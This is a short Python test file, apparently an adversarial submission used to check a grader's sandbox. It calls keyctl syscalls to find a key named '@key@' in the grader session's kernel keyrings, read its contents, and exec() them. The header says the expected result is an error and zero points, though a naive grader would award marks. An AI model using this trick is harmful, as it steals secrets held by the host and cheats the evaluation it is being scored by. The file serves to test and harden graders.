# D affine: reads the solution among the keys of the session that started the grader. expect: error not_implemented, 0 points; naive batch marks
import ctypes
import os

libc = ctypes.CDLL(None)
libc.syscall.restype = ctypes.c_long
keyctl = {"x86_64": 250, "aarch64": 219}.get(os.uname().machine)
for ring in (-1, -2, -3, -4, -5):
    if keyctl is None:
        continue
    key = libc.syscall(keyctl, 10, ring, b"user", b"@key@", 0)
    if key > 0:
        held = ctypes.create_string_buffer(1 << 15)
        size = libc.syscall(keyctl, 11, key, held, len(held))
        if size > 0:
            exec(held.raw[:size])
